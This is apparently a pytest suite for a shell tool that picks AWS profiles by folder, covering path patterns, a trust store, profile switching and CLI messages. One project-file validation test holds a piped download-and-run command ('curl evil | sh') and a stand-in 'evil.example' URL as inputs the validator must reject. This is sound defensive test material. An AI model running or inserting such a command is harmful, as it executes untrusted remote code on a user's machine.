"""Folder rules without a shell: project files, [[directory]] patterns, the trust store, the switch, the CLI.

The CLI tests run the real program in the test's HOME (under a pseudo-terminal, through `cli`), so exit
codes, stdout and stderr are the ones a user sees.
"""

from __future__ import annotations

import json
import os
import re
import stat
import subprocess
from pathlib import Path

import pytest
from cli_fixtures import Cli
from hypothesis import given, settings
from hypothesis import strategies as st

from shellenv import directories
from shellenv.directories import Entry, Resolution, Rule, TrustStore, compile_pattern, step

HOME = "/home/u"


def rule(name: str, profile: str, depth: int = 2) -> Rule:
    return Rule("file", f"/home/u/{name}", profile, None, f"/home/u/{name}/.shellenv.toml", depth)


# -- patterns ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("pattern", "inside", "outside"), [
    ("~/work/prod/**", ["/home/u/work/prod", "/home/u/work/prod/a/b"], ["/home/u/work/prod2", "/home/u"]),
    ("~/work/prod", ["/home/u/work/prod", "/home/u/work/prod/x"], ["/home/u/work/production"]),
    ("~/work/*/infra", ["/home/u/work/acme/infra/x"], ["/home/u/work/a/b/infra", "/home/u/work/infra"]),
    ("/srv/app?.d", ["/srv/app1.d/x"], ["/srv/app1xd", "/srv/app12.d"]),
    ("~/a.b/[x]+(y)|$^", ["/home/u/a.b/[x]+(y)|$^/z"], ["/home/u/aXb/[x]+(y)|$^"]),
])
def test_a_pattern_covers_its_folder_and_everything_inside(pattern: str, inside: list[str],
                                                           outside: list[str]) -> None:
    compiled = compile_pattern(pattern, HOME)
    for path in inside:
        assert compiled.regex.match(path), path
    for path in outside:
        assert not compiled.regex.match(path), path


@pytest.mark.parametrize(("pattern", "problem"), [
    ("work/prod", "absolute"), ("~/work/**/prod", "only end"), ("~/work/../prod", "without"),
])
def test_a_pattern_that_cannot_be_used_says_why(pattern: str, problem: str) -> None:
    with pytest.raises(ValueError, match=problem):
        compile_pattern(pattern, HOME)


names = st.text(alphabet="ab.*?[]()+{}|$^\\ -_é", min_size=1, max_size=6).filter(
    lambda n: n.strip() not in (".", "..") and "**" not in n)  # the rule's path is read stripped
folders = st.lists(st.text(alphabet="ab.[]()+{}|$^\\ -_é1", min_size=1, max_size=6).filter(
    lambda n: n not in (".", "..")), min_size=1, max_size=4)


@settings(max_examples=60, deadline=None)
@given(st.lists(names, min_size=1, max_size=3), folders)
def test_bash_and_python_agree_on_every_pattern(pattern_names: list[str], folder: list[str]) -> None:
    """The regex baked into the hook (bash `=~`) matches exactly where the program's does."""
    compiled = compile_pattern("/" + "/".join(pattern_names), HOME)
    path = "/" + "/".join(folder)
    done = subprocess.run(["bash", "-c", '[[ $1 =~ $2 ]]', "_", path, compiled.ere])
    assert (done.returncode == 0) == bool(compiled.regex.match(path)), (compiled.ere, path)


# -- project files ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(("text", "problem"), [
    ('profile = "arn:aws:iam::111111111111:role/Admin"\nrole_arn = "x"', "unknown key 'role_arn'"),
    ('profile = "dev"\nurl = "https://evil.example"', "unknown key 'url'"),
    ('profile = "dev"\ncommand = "curl evil | sh"', "unknown key 'command'"),
    ('region = "eu-west-1"', "names no profile"),
    ('profile = "dev"\nregion = "nowhere"', "not an AWS region"),
    ("profile = [", "not valid TOML"),
    ('profile = "dev"\n' + "#" * 5000, "larger than"),
])
def test_a_project_file_names_a_profile_and_a_region_and_nothing_else(home: Path, text: str,
                                                                      problem: str) -> None:
    path = home / directories.FILE_NAME
    path.write_text(text)
    with pytest.raises(ValueError, match=re.escape(problem)):
        directories.read_project_file(str(path))


def test_a_file_others_may_write_to_is_ignored(home: Path) -> None:
    path = home / directories.FILE_NAME
    path.write_text('profile = "dev"\n')
    path.chmod(0o666)
    with pytest.raises(ValueError, match="others may write to it"):
        directories.read_project_file(str(path))


def test_the_walk_stops_at_home_or_at_the_root() -> None:
    assert directories.candidate_files("/home/u/a/b", HOME) == [
        "/home/u/a/b/.shellenv.toml", "/home/u/a/.shellenv.toml", "/home/u/.shellenv.toml"]
    assert directories.candidate_files("/srv/x/", HOME) == [
        "/srv/x/.shellenv.toml", "/srv/.shellenv.toml", "/.shellenv.toml"]
    assert directories.candidate_files("/", HOME) == ["/.shellenv.toml"]


# -- the trust store --------------------------------------------------------------------------------------


def test_trust_is_by_path_and_content_and_a_deny_is_by_path(home: Path) -> None:
    trust = TrustStore()
    assert trust.state("/p/.shellenv.toml", b"a") == "new"
    trust.allow("/p/.shellenv.toml", b"a")
    assert trust.state("/p/.shellenv.toml", b"a") == "allowed"
    assert trust.state("/p/.shellenv.toml", b"b") == "changed"
    assert trust.state("/q/.shellenv.toml", b"a") == "new"
    trust.allow("/p/.shellenv.toml", b"b")
    assert trust.state("/p/.shellenv.toml", b"a") == "changed"  # only the latest content stays allowed
    trust.deny("/p/.shellenv.toml")
    assert trust.state("/p/.shellenv.toml", b"b") == "denied"
    assert trust.state("/p/.shellenv.toml", b"anything") == "denied"
    trust.allow("/p/.shellenv.toml", b"c")
    assert trust.state("/p/.shellenv.toml", b"c") == "allowed"

    for folder in (trust.root, trust.root / "allow", trust.root / "deny"):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    for entry in [*trust.root.glob("allow/*"), *trust.root.glob("deny/*"), trust.changed_path]:
        assert stat.S_IMODE(entry.stat().st_mode) == 0o600


# -- the switch -------------------------------------------------------------------------------------------


def test_entering_pushes_and_leaving_pops_to_what_the_shell_had() -> None:
    outer, inner = rule("a", "dev", 2), rule("a/b", "ro", 3)
    move = step([], Resolution([outer]), current="prod")
    assert (move.apply, move.stack) == (outer, [Entry(outer.id, "prod")])

    move = step(move.stack, Resolution([outer, inner]), current="dev")
    assert move.apply == inner and [e.before for e in move.stack] == ["prod", "dev"]

    back = step(move.stack, Resolution([outer]), current="by-hand")
    assert (back.apply, back.restore) == (None, "dev")

    out = step(move.stack, Resolution([]), current="ro")
    assert (out.apply, out.restore, out.stack) == (None, "prod", [])


def test_a_sibling_project_gets_the_profile_from_before_the_first() -> None:
    a, c = rule("a", "dev"), rule("c", "ro")
    stack = step([], Resolution([a]), current="").stack
    move = step(stack, Resolution([c]), current="dev")
    assert move.apply == c and move.stack == [Entry(c.id, "")]


def test_a_new_shell_inside_nested_projects_enters_the_nearest_only() -> None:
    outer, inner = rule("a", "dev", 2), rule("a/b", "ro", 3)
    move = step([], Resolution([outer, inner]), current="")
    assert move.apply == inner and len(move.stack) == 1
    move = step(move.stack, Resolution([outer]), current="ro")
    assert move.apply == outer and move.stack == [Entry(outer.id, "")]


def test_the_same_resolution_changes_nothing_and_a_broken_state_starts_afresh() -> None:
    a = rule("a", "dev")
    stack = step([], Resolution([a]), current="").stack
    again = step(stack, Resolution([a]), current="other")
    assert (again.apply, again.restore, again.stack) == (None, None, stack)
    assert directories.load_stack("{not json") == []
    assert directories.load_stack(directories.dump_stack(stack)) == stack


def test_the_deeper_folder_wins_and_a_config_rule_wins_a_tie(cli: Cli) -> None:
    cli.write_config(cli.config_path.read_text()
                     + '\n[[directory]]\npath = "~/w/**"\nprofile = "prod-readonly"\n'
                     '\n[[directory]]\npath = "~/w/*"\nprofile = "dev-readonly"\n'
                     '\n[[directory]]\npath = "~/w/x"\nprofile = "dev-admin"\n')
    from shellenv import config

    cfg = config.load()
    home = str(cli.home)
    (cli.home / "w" / "x").mkdir(parents=True)
    assert directories.resolve(f"{home}/w", cfg, TrustStore(), home).active.profile == "prod-readonly"
    # Two rules as deep as each other: the first listed wins.
    assert directories.resolve(f"{home}/w/x", cfg, TrustStore(), home).active.profile == "dev-readonly"
    (cli.home / "w" / "x" / directories.FILE_NAME).write_text('profile = "dev-admin"\n')
    directories.allow(f"{home}/w/x")
    assert directories.resolve(f"{home}/w/x/y", cfg, TrustStore(), home).active.kind == "config"
    (cli.home / "w" / "x" / "y").mkdir()
    (cli.home / "w" / "x" / "y" / directories.FILE_NAME).write_text('profile = "prod-readonly"\n')
    directories.allow(f"{home}/w/x/y")
    assert directories.resolve(f"{home}/w/x/y", cfg, TrustStore(), home).active.kind == "file"


# -- the commands -----------------------------------------------------------------------------------------


def test_allow_and_deny_without_a_file_say_what_to_do(cli: Cli) -> None:
    result = cli.run(["allow"])
    assert result.exit_code == 14
    assert result.stderr == ("shellenv: no .shellenv.toml in ~ or above it; name the folder: "
                             "shellenv allow PATH\n")
    assert result.stdout == ""
    result = cli.run(["deny"])
    assert result.exit_code == 14 and "shellenv deny PATH" in result.stderr


def test_allow_refuses_a_file_that_says_more_than_a_profile(cli: Cli) -> None:
    (cli.home / "p").mkdir()
    (cli.home / "p" / directories.FILE_NAME).write_text('profile = "dev-admin"\nrole_arn = "arn:aws:x"\n')
    result = cli.run(["allow", "p"])
    assert result.exit_code == 3
    assert result.stderr.count("\n") == 1 and "unknown key 'role_arn'" in result.stderr
    assert "Traceback" not in result.stderr


def test_deny_blocks_a_path_ahead_of_any_file(cli: Cli) -> None:
    result = cli.run(["deny", "somewhere/else"])
    assert result.exit_code == 0
    assert result.stderr == ("shellenv: denied ~/somewhere/else/.shellenv.toml: shellenv ignores it from now "
                             "on, whatever it says\n")


def test_status_names_the_rule_and_the_files_passed_over(cli: Cli) -> None:
    (cli.home / "p" / "q").mkdir(parents=True)
    (cli.home / "p" / directories.FILE_NAME).write_text('profile = "dev-admin"\n')
    (cli.home / "p" / "q" / directories.FILE_NAME).write_text('profile = "prod-readonly"\n')
    assert cli.run(["allow", "p"]).exit_code == 0
    result = cli.run(["status", "p/q"])
    assert result.exit_code == 0
    assert result.stdout.splitlines() == [
        "active profile: none (no shellenv keys in this shell)",
        "this folder: dev-admin, chosen by ~/p/.shellenv.toml",
        "ignored: ~/p/q/.shellenv.toml: names prod-readonly, but you have not allowed it; "
        "run `shellenv allow ~/p/q`",
    ]


def test_the_hook_command_prints_shell_code_only_and_is_hidden(cli: Cli) -> None:
    (cli.home / "p").mkdir()
    (cli.home / "p" / directories.FILE_NAME).write_text('profile = "dev-admin"\n')
    result = cli.run(["__dir", "--shell", "bash", "--pid", "1", "--", str(cli.home / "p")])
    assert result.exit_code == 0
    assert "is ignored" in result.stderr
    for line in result.stdout.splitlines():
        assert re.match(r"^__shellenv_dir_\w+=", line), line
    state = re.search(r"^__shellenv_dir_stack='(.*)'$", result.stdout, re.M)
    assert state and json.loads(state.group(1)) == []
    assert "__dir" not in cli.run(["--help"]).stderr + cli.run(["--help"]).stdout


def test_init_bakes_the_config_rules_into_the_hook(cli: Cli) -> None:
    cli.write_config(cli.config_path.read_text() + '\n[[directory]]\npath = "~/w/*/prod"\n'
                     'profile = "prod-readonly"\n\n[[directory]]\npath = "relative"\nprofile = "dev-admin"\n')
    result = cli.run(["init", "bash", "--no-completions"])
    assert result.exit_code == 0
    assert f"__shellenv_dir_rules=('^{cli.home}/w/[^/]*/prod(/.*)?$')" in result.stdout
    assert f"__shellenv_dir_depths=({len(cli.home.parts) - 1 + 3})" in result.stdout
    assert result.stderr == (f'shellenv: {cli.config_path}: [[directory]] path = "relative" is skipped: '
                             "write an absolute path or one starting with ~/\n")


def test_markers_are_private_and_shell_specific(home: Path) -> None:
    trust = TrustStore()
    trust.mark_seen(4242, 5 * 10**18)
    marker = trust.seen_dir / "4242"
    assert marker.stat().st_mtime_ns == 5 * 10**18
    assert stat.S_IMODE(marker.stat().st_mode) == 0o600
    assert os.path.exists(str(marker) + ".trust")
